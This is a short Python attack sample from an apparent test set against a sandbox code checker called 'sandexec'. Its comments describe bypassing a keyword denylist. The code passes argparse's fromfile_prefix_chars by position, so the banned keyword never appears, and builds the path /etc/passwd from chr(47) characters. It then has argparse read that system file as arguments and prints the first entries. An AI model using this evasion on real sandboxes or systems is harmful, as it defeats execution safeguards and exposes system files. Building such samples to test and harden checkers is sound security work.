# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 8 refused keyword given by position or as an attribute
# source: https://docs.python.org/3/library/argparse.html#fromfile-prefix-chars adapted: the forbidden keyword passed as the 8th positional parameter
# family: denylisted keyword given positionally (argparse fromfile_prefix_chars)
# goal: argparse reads /etc/passwd line by line as arguments
import argparse
import json

p = argparse.ArgumentParser(None, None, None, None, [], argparse.HelpFormatter, "-", "@")
known, rest = p.parse_known_args(["@" + chr(47) + "etc" + chr(47) + "passwd"])
print(json.dumps({"evidence": rest[:3]}))
